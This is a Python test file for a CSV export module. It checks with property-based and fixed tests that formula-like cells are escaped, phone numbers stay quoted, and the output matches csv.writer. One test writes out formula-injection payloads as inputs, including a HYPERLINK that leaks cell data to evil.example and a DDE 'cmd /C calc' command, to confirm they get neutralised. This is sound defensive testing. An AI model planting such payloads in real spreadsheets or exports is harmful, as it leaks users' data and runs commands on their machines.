"""gateway/export_csv.py on any text: what ``csv.reader`` reads back is the escaped value,
no cell is one a spreadsheet would evaluate, phone numbers keep their "+" and are quoted,
and the lines are the very bytes ``csv.writer`` writes for the same values (both of the
encoder's ways: a column needing no quotes, joined as it is, and one quoted cell by cell).
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.export_csv import CsvTable, Kind, escape_text, is_e164, quoted

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # written out again: the test's own copy
# Any text PostgreSQL can hold (no U+0000), leaning on what CSV and spreadsheets care for.
TEXT = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))
TRICKY = st.text(st.sampled_from(['=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", ' ',
                                  'a', '1', 'é', '\u2028']), max_size=8)
CELL_TEXT = st.one_of(TEXT, TRICKY, st.from_regex(r"\+[0-9]{1,15}", fullmatch=True))
PLAIN = st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), CELL_TEXT)
E164 = st.from_regex(r"\+[0-9]{1,15}", fullmatch=True)
PHONE = st.one_of(E164, CELL_TEXT)
KIND_VALUES = {Kind.TEXT: st.one_of(st.none(), CELL_TEXT), Kind.PLAIN: PLAIN,
               Kind.PHONE: PHONE}


def expected(kind: Kind, value) -> str:
    """The cell's value as written, by the rules (independently of the module)."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if kind is Kind.PLAIN:
        return text
    if kind is Kind.PHONE and is_e164(text):
        return text
    return "'" + text if text.startswith(FORMULA) else text


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def written(rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue()


@st.composite
def tables(draw):
    """A table of 1-6 columns of any kinds and 0-12 rows of values fit for them."""
    kinds = draw(st.lists(st.sampled_from(list(Kind)), min_size=1, max_size=6))
    count = draw(st.integers(0, 12))
    columns = [draw(st.lists(KIND_VALUES[kind], min_size=count, max_size=count))
               for kind in kinds]
    names = draw(st.lists(CELL_TEXT, min_size=len(kinds), max_size=len(kinds)))
    return CsvTable(tuple(names), tuple(kinds)), columns


@given(CELL_TEXT)
def test_escaped_text_never_starts_a_formula_and_keeps_the_rest(text):
    escaped = escape_text(text)
    assert not escaped.startswith(FORMULA)
    assert escaped == ("'" + text if text.startswith(FORMULA) else text)


@settings(max_examples=300)
@given(tables())
def test_reads_back_as_the_escaped_values_and_nothing_evaluates(table_columns):
    table, columns = table_columns
    text = table.header() + table.encode(columns)
    rows = read(text)
    assert rows[0] == [expected(Kind.TEXT, name) for name in table.names]
    wanted = [[expected(kind, value) for kind, value in zip(table.kinds, row, strict=True)]
              for row in zip(*columns, strict=True)]
    assert rows[1:] == wanted
    for row in rows:
        for kind, cell in zip(table.kinds, row, strict=True):
            # A spreadsheet evaluates a cell that starts with a formula character; an E.164
            # number is a number to it, never a formula.
            if kind is not Kind.PLAIN:
                assert not cell.startswith(FORMULA) or (kind is Kind.PHONE and is_e164(cell))


@settings(max_examples=300)
@given(tables())
def test_lines_are_csv_writers_bytes_with_the_phone_cells_quoted(table_columns):
    table, columns = table_columns
    rows = [[expected(kind, value) for kind, value in zip(table.kinds, row, strict=True)]
            for row in zip(*columns, strict=True)]
    if Kind.PHONE not in table.kinds:
        assert table.encode(columns) == written(rows)
    # csv.writer cannot quote one column: each cell as csv.writer writes it, the phone
    # cells as quoted() does.
    lines = []
    for row in rows:
        cells = [quoted(cell) if kind is Kind.PHONE else writer_cell(cell)
                 for kind, cell in zip(table.kinds, row, strict=True)]
        if cells == [""]:
            cells = ['""']  # csv.writer's one empty cell (a blank line is no cell at all)
        lines.append(",".join(cells) + "\r\n")
    assert table.encode(columns) == "".join(lines)


def writer_cell(cell: str) -> str:
    """The cell as ``csv.writer`` writes it (among others: it quotes by the cell alone)."""
    return written([[cell, "x"]]).removesuffix(",x\r\n")


@given(st.lists(E164, min_size=1, max_size=20))
def test_phone_numbers_keep_their_plus_and_are_quoted(numbers):
    table = CsvTable(("phone_number",), (Kind.PHONE,))
    assert table.encode([numbers]) == "".join(f'"{number}"\r\n' for number in numbers)


def test_a_formula_in_a_phone_column_is_escaped_and_quoted():
    table = CsvTable(("phone_number", "note"), (Kind.PHONE, Kind.TEXT))
    text = table.encode([["+12125550100", "=1+1", "+1 (212)"], ["ok", "x", "@x"]])
    assert text == '"+12125550100",ok\r\n"\'=1+1",x\r\n"\'+1 (212)",\'@x\r\n'


def test_formula_injection_through_outside_text():
    table = CsvTable(("id", "custom_fields.note"), (Kind.PLAIN, Kind.TEXT))
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = table.encode([["a", "b", "c", "d", "e"],
                         [link, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]])
    assert read(text) == [["a", "'" + link], ["b", "'+cmd|' /C calc'!A0"], ["c", "'-2+3"],
                          ["d", "'@SUM(1)"], ["e", "'\tx"]]
    assert text.startswith('a,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n')


def test_the_fast_and_the_careful_column_agree():
    table = CsvTable(("a", "b"), (Kind.TEXT, Kind.PLAIN))
    assert table.encode([["x", "y"], [1, None]]) == "x,1\r\ny,\r\n"  # joined as is
    assert table.encode([["x", 'say "hi", ok'], [1.5, "multi\nline"]]) == (
        'x,1.5\r\n"say ""hi"", ok","multi\nline"\r\n')  # quoted cell by cell


def test_header_names_are_escaped_and_one_empty_cell_is_quoted():
    assert CsvTable(("id", "=x", "a,b"), (Kind.PLAIN,) * 3).header() == 'id,\'=x,"a,b"\r\n'
    table = CsvTable(("only",), (Kind.TEXT,))
    assert table.encode([["", None, "x"]]) == '""\r\n""\r\nx\r\n'
    assert read(table.encode([["", "x"]])) == [[""], ["x"]]


def test_nul_and_mismatched_columns_are_refused():
    table = CsvTable(("a", "b"), (Kind.TEXT, Kind.PLAIN))
    with pytest.raises(ValueError, match="U\\+0000"):
        table.encode([["a\x00b"], [1]])
    with pytest.raises(ValueError):
        table.encode([["a"]])
    with pytest.raises(ValueError):
        table.encode([["a", "b"], [1]])
    with pytest.raises(ValueError):
        CsvTable(("a",), (Kind.TEXT, Kind.TEXT))
    assert table.encode([[], []]) == ""
